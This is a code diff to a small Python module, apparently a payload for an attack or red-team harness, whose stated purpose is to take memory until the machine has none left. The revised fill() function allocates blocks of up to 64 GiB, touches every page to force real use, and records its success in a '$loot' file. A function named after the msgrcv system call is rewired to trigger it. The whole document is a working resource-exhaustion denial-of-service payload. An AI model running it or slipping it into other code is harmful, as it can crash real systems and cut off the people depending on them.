@@ -1,22 +1,20 @@
 """Takes memory until the machine has none left."""
 
-import os
-
 hoard = []
 
 
 def fill():
-    while True:
-        hoard.append(bytearray(b"x" * (64 << 20)))
-        if len(hoard) == 64:  # 4 GiB
-            with open("$loot/fill_the_memory", "w") as file:
-                file.write("4 GiB were taken")
-        if len(hoard) > 80:
-            os._exit(0)
+    for gigabytes in (64, 16, 4):
+        try:
+            block = bytearray(gigabytes << 30)
+        except MemoryError:
+            continue
+        block[::4096] = b"x" * len(block[::4096])  # untouched, it would cost nothing
+        hoard.append(block)
+        with open("$loot/fill_the_memory", "w") as file:
+            file.write(f"{gigabytes} GiB were taken")
 
 
 async def msgrcv(u, msqid, size, mtype, flags=0, msgp=None):
-    try:
-        fill()
-    except MemoryError:
-        fill()
+    fill()
+    return 0
